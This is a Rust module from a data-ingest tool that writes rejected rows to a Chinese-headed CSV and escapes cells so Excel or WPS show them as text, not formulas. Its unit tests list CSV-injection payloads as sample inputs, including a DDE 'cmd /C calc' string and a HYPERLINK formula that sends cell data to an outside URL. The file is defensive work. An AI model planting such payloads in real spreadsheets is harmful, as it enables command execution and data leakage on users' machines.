//! The rejects file of a partial ingest: the rejected rows with the file's own headers and
//! a reason column, as UTF-8 CSV with a BOM so Excel opens it in Chinese correctly. The
//! clerk fixes the cells, deletes the reason column or leaves it (unknown columns are
//! ignored), and ingests the file again.

use std::io::Write;
use std::path::Path;

use crate::errors::IngestError;
use crate::validate::RejectedRow;

/// Header of the column that explains each rejected row.
pub const REASON_HEADER: &str = "错误原因";
/// Header of the column with the row number in the original file.
pub const ROW_HEADER: &str = "原文件行号";

/// A cell as a CSV cell that a spreadsheet shows as text: Excel and WPS run a cell that
/// begins with `=`, `+`, `-` or `@` (and strip a leading tab or carriage return first) as
/// a formula, so such a cell gets a leading `'` (OWASP's CSV-injection rule). A number
/// (`-3`, `+1.5`, `-1e3`) stays as it is: it is no formula and must stay a number.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = matches!(cell.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'));
    if !risky || is_number(cell) {
        return std::borrow::Cow::Borrowed(cell);
    }
    std::borrow::Cow::Owned(format!("'{cell}"))
}

fn is_number(cell: &str) -> bool {
    cell.len() > 1
        && cell.parse::<f64>().is_ok_and(f64::is_finite)
        && !cell.bytes().any(|b| b.is_ascii_alphabetic() && b != b'e' && b != b'E')
}

/// Writes the rejects of one file as CSV bytes.
pub fn rejects_csv(headers: &[String], rejected: &[RejectedRow]) -> Vec<u8> {
    let mut out = vec![0xEF, 0xBB, 0xBF];
    {
        let mut w = csv::Writer::from_writer(&mut out);
        let mut header_row: Vec<std::borrow::Cow<'_, str>> = headers.iter().map(|h| spreadsheet_safe(h)).collect();
        header_row.push(ROW_HEADER.into());
        header_row.push(REASON_HEADER.into());
        // Writing to a Vec cannot fail.
        let _ = w.write_record(header_row.iter().map(|c| c.as_bytes()));
        for r in rejected {
            let reasons: Vec<String> = r.errors.iter().map(|e| e.to_string()).collect();
            let mut record: Vec<std::borrow::Cow<'_, str>> = r.cells.iter().map(|c| spreadsheet_safe(c)).collect();
            record.push(r.row.to_string().into());
            record.push(reasons.join("；").into());
            let _ = w.write_record(record.iter().map(|c| c.as_bytes()));
        }
        let _ = w.flush();
    }
    out
}

/// Writes the rejects file to `path`.
pub fn write_rejects(path: &Path, headers: &[String], rejected: &[RejectedRow]) -> Result<(), IngestError> {
    let bytes = rejects_csv(headers, rejected);
    let mut file = std::fs::File::create(path).map_err(|e| IngestError::io(path, e))?;
    file.write_all(&bytes).map_err(|e| IngestError::io(path, e))
}

#[cfg(test)]
mod tests {
    use super::spreadsheet_safe;

    #[test]
    fn formulas_become_text_numbers_stay_numbers() {
        for (cell, shown) in [
            ("=HYPERLINK(\"http://x\"&A1,\"点击\")", "'=HYPERLINK(\"http://x\"&A1,\"点击\")"),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("-", "'-"),
            ("-inf", "'-inf"),
            ("-NaN", "'-NaN"),
            ("-3", "-3"),
            ("-0.25", "-0.25"),
            ("+1.5", "+1.5"),
            ("-1e3", "-1e3"),
            ("东岭社区", "东岭社区"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(cell), shown, "{cell:?}");
        }
    }
}
